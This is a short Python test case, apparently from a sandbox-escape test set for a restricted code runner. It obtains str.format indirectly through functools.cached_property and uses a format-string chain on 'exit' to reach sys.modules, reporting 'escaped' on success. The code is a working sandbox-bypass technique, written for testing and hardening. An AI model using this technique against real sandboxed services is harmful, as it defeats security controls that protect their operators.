# technique: functools.cached_property as a vars() substitute: __set_name__(None, 'format') then __get__(str) reads str.__dict__['format'], the unbound str.format with no `.format` in the source; called by name it formats a run-time __init__.__globals__[sys].modules template unchecked
# configs: default, common
# With nothing allowed `import functools` is refused.
import functools
reader = functools.cached_property(lambda instance: None)
reader.__set_name__(None, 'format')
unbound = reader.__get__(str)
u = '_' * 2
tpl = '{0.' + u + 'init' + u + '.' + u + 'globals' + u + '[sys].modules}'
text = unbound(tpl, exit)
if "<module 'sys'" in text:
    return [{'json': {'escaped': text[:300]}}]
return [{'json': {'result': text[:300]}}]
